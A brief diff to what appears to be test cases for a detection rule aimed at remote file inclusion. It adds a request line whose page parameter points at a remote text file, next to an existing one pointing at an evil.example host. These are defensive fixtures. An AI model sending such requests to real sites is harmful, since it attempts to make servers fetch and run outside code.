@@ -40,6 +40,7 @@ export default defineRule({
       'phtml inc dat log pl py cgi sh asp jsp',
     ),
     'GET /index.php?mosConfig_absolute_path=ftps://evil.example/a.txt HTTP/1.1',
+    'GET /a.php?page=+http://203.0.113.9/a.txt HTTP/1.1',
   ],
   misses: [
     'GET /share?url=https://news.example/story.php HTTP/1.1',
